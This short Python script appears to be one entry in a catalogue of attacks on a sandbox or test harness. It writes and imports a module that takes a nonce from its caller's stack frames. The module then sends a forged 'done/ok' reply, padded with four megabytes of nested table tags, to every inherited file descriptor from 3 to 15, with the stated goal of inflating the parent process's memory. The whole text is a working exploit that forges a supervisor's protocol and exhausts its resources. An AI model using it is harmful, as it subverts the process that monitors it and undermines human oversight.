# class: protocol
# technique: a reply with four megabytes of nested tables
# success: parent_rss 200
import sys, unittest
source = "import ctypes, os\nlibc = ctypes.CDLL(None, use_errno=True)\nimport sys, json, struct\nframe = sys._getframe()\nnonce = ''\nwhile frame:\n    request = frame.f_locals.get('request')\n    if isinstance(request, dict) and 'nonce' in request: nonce = request['nonce']\n    frame = frame.f_back\nbody = json.dumps({'done': nonce, 'status': 'ok', 'html': '<table><tr><td>' * 250000, 'hint': None}).encode()\ndata = struct.pack('>I', len(body)) + body\nfor fd in range(3, 16):\n    try:\n        while data: data = data[os.write(fd, data):]\n    except OSError: pass\n"
open('native_part.py', 'w').write(source)
sys.path.insert(0, '')
unittest.defaultTestLoader.loadTestsFromName('native_part')
